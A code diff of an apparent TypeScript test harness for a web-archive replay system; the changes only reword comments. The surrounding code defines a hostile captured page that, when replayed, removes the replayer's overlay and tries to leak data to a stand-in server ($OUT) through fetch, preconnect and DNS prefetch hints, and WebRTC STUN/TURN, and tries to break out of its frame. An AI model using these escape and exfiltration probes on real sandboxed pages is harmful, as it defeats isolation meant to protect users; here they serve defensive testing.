@@ -1,12 +1,12 @@
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 
-/** Host name of the site on a local installation; replays are at another, 127.0.0.1. */
+/** Host name of the site in a local installation; replays use another host, 127.0.0.1. */
 const siteName = 'localhost';
 
 export interface FramingSite {
   origin: string;
-  /** Requests at its API with their cookies. */
+  /** Requests to its API with their cookies. */
   calls: { path: string; cookie: string | undefined }[];
   /** Address of a page that shows a replay as the product does. */
   pageWith(replay: string): string;
@@ -33,7 +33,7 @@ export async function startFramingSite(): Promise<FramingSite> {
 }
 
 export interface HostileSite {
-  /** Page to be captured; it does nothing before it is replayed. */
+  /** Page to be captured; it does nothing until it is replayed. */
   page: string;
   authority: string;
   /** Number of requests so far. */
@@ -42,8 +42,8 @@ export interface HostileSite {
 }
 
 /**
- * A site whose captured page, when it is replayed, first gets rid of what the replayer lays over it, and then tries every way
- * out that it knows of, to a place where whatever arrives is written down.
+ * A site whose captured page, when replayed, first removes the replayer's layer and then tries every known way out, to
+ * a server that records whatever arrives.
  */
 export async function startHostileSite(o: { out: string; site: string; unguarded: string }): Promise<HostileSite> {
   let asked = 0;
@@ -66,7 +66,10 @@ export async function startHostileSite(o: { out: string; site: string; unguarded
   return { page: `http://127.0.0.1:${port}/`, authority: `127.0.0.1:${port}`, asked: () => asked, close };
 }
 
-/** In a replay its address ends in the captured one; the same with `id_` for `mp_` is the page as it was captured. */
+/**
+ * In a replay, its address ends with the captured address; with `id_` in place of `mp_`, the same address is the page
+ * as captured.
+ */
 export const lure = (freed: string) => `<!doctype html><meta charset="utf-8"><title>诱饵</title><p>促销页面</p>
 <script>fetch('/${freed}').then((answer) => answer.text()); fetch('/away', { redirect: 'manual' })</script>
 <script src="data:text/javascript,${encodeURIComponent(`
@@ -80,7 +83,9 @@ export const lure = (freed: string) => `<!doctype html><meta charset="utf-8"><ti
   }
 `)}"></script>`;
 
-/** Tries every way out; each prints its name (the path it requests) and result. Ends by trying to leave its frame. */
+/**
+ * Tries every way out and prints the name (the requested path) and result of each. Finally tries to leave its frame.
+ */
 const free = `<!doctype html><meta charset="utf-8"><title>free</title><pre id="log"></pre><div id="here"></div>
 <link rel="preconnect" href="http://$OUT/preconnect"><link rel="dns-prefetch" href="http://$OUT/dns-prefetch">
 <script>
@@ -156,7 +161,7 @@ addEventListener('load', async () => {
 });
 </script>`;
 
-/** A page of its own, as Chromium 156 ends the process of a frame that is refused this. */
+/** A separate page, because Chromium 156 ends the process of a frame to which this is refused. */
 const caller = `<!doctype html><meta charset="utf-8"><script>
 const servers = [{ urls: 'stun:$OUT' }, { urls: 'turn:$OUT?transport=tcp', username: 'a', credential: 'b' }];
 const peer = new RTCPeerConnection({ iceServers: servers });
